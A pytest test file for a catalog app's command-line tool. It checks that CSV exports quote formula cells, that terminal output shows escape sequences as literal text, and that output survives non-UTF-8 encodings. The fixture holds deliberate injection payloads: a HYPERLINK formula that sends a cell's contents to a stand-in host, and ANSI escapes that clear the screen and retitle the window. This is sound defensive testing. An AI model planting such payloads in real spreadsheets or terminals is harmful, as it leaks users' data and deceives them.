"""Catalog text reaches a spreadsheet never as a formula, a terminal never as a control sequence,
and a terminal in any encoding gets the whole output."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from catalog_app.cli.main import main
from catalog_app.io.catalog import bundled_catalog_path
from catalog_app.io.cell_safety import FORMULA_STARTS
from catalog_app.shortlist.store import ShortlistStore

FORMULA_ID = "tidewell-cloudrest-full"
ESCAPES_ID = "corvane-carbon-stride"
UNICODE_ID = "larkmoor-functional-custom"
FORMULA_NAME = '=HYPERLINK("https://example.invalid/?q="&A1,"Click for the price")'
FORMULA_BRAND = "@SUM(1+1)"
# Clears the screen, turns text red, sets the window title, rings the bell, and a one-byte CSI.
ESCAPES_NAME = "Red \x1b[2J\x1b[31mALERT\x1b[0m \x1b]0;owned\x07 \x9b2J end"
UNICODE_NAME = "Sole 👟 Støtte — ✓ ☂"
BAD_ARCH = "\x1b[2Jextra-firm"
TERMINAL_ACTS_ON = ("\x1b", "\x07", "\x9b")


@pytest.fixture
def hostile_catalog(tmp_path: Path) -> Path:
    with bundled_catalog_path().open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        if row["id"] == FORMULA_ID:
            row.update(name=FORMULA_NAME, brand=FORMULA_BRAND)
        elif row["id"] == ESCAPES_ID:
            row.update(name=ESCAPES_NAME)
        elif row["id"] == UNICODE_ID:
            row.update(name=UNICODE_NAME)
    rows[-1]["arch_support"] = BAD_ARCH
    path = tmp_path / "hostile.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    status = main(list(args))
    captured = capsys.readouterr()
    return status, captured.out, captured.err


# ---- item 4: spreadsheets ------------------------------------------------------------------------


def assert_no_formula_cells(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


def test_search_csv_quotes_cells_a_spreadsheet_would_run(
    capsys: pytest.CaptureFixture[str], hostile_catalog: Path
) -> None:
    status, out, _err = run(capsys, "search", "--catalog", str(hostile_catalog), "--limit", "0", "--format", "csv")
    assert status == 0
    rows = list(csv.reader(io.StringIO(out)))
    assert_no_formula_cells(rows)
    row = next(row for row in rows if row[0] == FORMULA_ID)
    assert row[1:3] == ["'" + FORMULA_NAME, "'" + FORMULA_BRAND]


def test_compare_csv_quotes_cells_a_spreadsheet_would_run(
    capsys: pytest.CaptureFixture[str], hostile_catalog: Path
) -> None:
    status, out, _err = run(
        capsys, "compare", FORMULA_ID, ESCAPES_ID, "--catalog", str(hostile_catalog), "--format", "csv"
    )
    assert status == 0
    rows = list(csv.reader(io.StringIO(out)))
    assert_no_formula_cells(rows)
    brand = next(row for row in rows if row[0] == "brand")
    assert brand[4] == "'" + FORMULA_BRAND
    price = next(row for row in rows if row[0] == "price")
    assert float(price[4]) > 0  # numbers stay numbers


# ---- item 8: terminals ---------------------------------------------------------------------------


def assert_shown_not_acted_on(text: str) -> None:
    for char in TERMINAL_ACTS_ON:
        assert char not in text, repr(char)


def test_search_table_shows_escape_sequences_as_text(capsys: pytest.CaptureFixture[str], hostile_catalog: Path) -> None:
    status, out, err = run(capsys, "search", "--catalog", str(hostile_catalog), "--limit", "0")
    assert status == 0
    assert_shown_not_acted_on(out + err)
    assert "Red \\x1b[2J\\x1b[31mALERT\\x1b[0m \\x1b]0;owned\\x07 \\x9b2J end" in out


def test_compare_table_shows_escape_sequences_as_text(
    capsys: pytest.CaptureFixture[str], hostile_catalog: Path
) -> None:
    status, out, err = run(capsys, "compare", FORMULA_ID, ESCAPES_ID, "--catalog", str(hostile_catalog))
    assert status == 0
    assert_shown_not_acted_on(out + err)
    assert "\\x1b[31mALERT" in out


def test_validate_shows_the_cell_it_quotes_as_text(capsys: pytest.CaptureFixture[str], hostile_catalog: Path) -> None:
    status, out, _err = run(capsys, "validate", str(hostile_catalog))
    assert status == 1
    assert_shown_not_acted_on(out)
    assert "'\\x1b[2Jextra-firm' is not a known arch support" in out


def test_shortlist_names_and_notes_are_shown_as_text(capsys: pytest.CaptureFixture[str]) -> None:
    with ShortlistStore() as store:
        store.create("Bell\x07list")
    assert run(capsys, "shortlist", "add", "Bell\x07list", FORMULA_ID, "--note", "\x1b[8mhidden")[0] == 0
    status, out, _err = run(capsys, "shortlist", "show", "Bell\x07list")
    assert status == 0
    assert_shown_not_acted_on(out)
    assert out.rstrip().endswith("\\x1b[8mhidden")


# ---- item 15: any output encoding ----------------------------------------------------------------

# The environment, and the encoding the output then comes in.
ENCODINGS = {
    "cp1252": ({"PYTHONIOENCODING": "cp1252"}, "cp1252"),
    "C locale": ({"PYTHONUTF8": "0", "LC_ALL": "C", "PYTHONIOENCODING": ""}, "ascii"),
}


def run_program(encoding: str, *args: str) -> subprocess.CompletedProcess[str]:
    environment, output_encoding = ENCODINGS[encoding]
    env = {**os.environ, **environment}
    env = {key: value for key, value in env.items() if value}
    return subprocess.run(
        [sys.executable, "-m", "catalog_app", *args],
        capture_output=True,
        text=True,
        encoding=output_encoding,
        errors="strict",
        env=env,
        check=False,
        timeout=120,
    )


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_search_and_compare_finish_in_a_terminal_that_cannot_show_every_character(
    encoding: str, hostile_catalog: Path
) -> None:
    search = run_program(encoding, "search", "--catalog", str(hostile_catalog), "--limit", "0")
    assert search.returncode == 0 and search.stderr.startswith("note: 75 products valid, 1 row rejected")
    assert search.stdout.count("\n") > 70 and "Sole ? St" in search.stdout
    compare = run_program(encoding, "compare", UNICODE_ID, ESCAPES_ID, "--catalog", str(hostile_catalog))
    assert compare.returncode == 0 and compare.stderr.startswith("note: 75 products valid, 1 row rejected")
    assert "Sole ?" in compare.stdout
    assert f"({ESCAPES_ID}):" in compare.stdout


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_json_reads_back_exactly_in_any_encoding(encoding: str, hostile_catalog: Path) -> None:
    result = run_program(encoding, "search", "--catalog", str(hostile_catalog), "--limit", "0", "--format", "json")
    assert result.returncode == 0, result.stderr
    names = {row["id"]: row["name"] for row in json.loads(result.stdout)["results"]}
    assert names[UNICODE_ID] == UNICODE_NAME


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_shortlist_list_finishes_in_any_encoding(encoding: str) -> None:
    with ShortlistStore() as store:
        store.create("Läufer 👟 ☂")
        store.create("Zeta")
    result = run_program(encoding, "shortlist", "list")
    assert (result.returncode, result.stderr) == (0, "")
    assert result.stdout.splitlines()[-1] == "Zeta (0 products)"
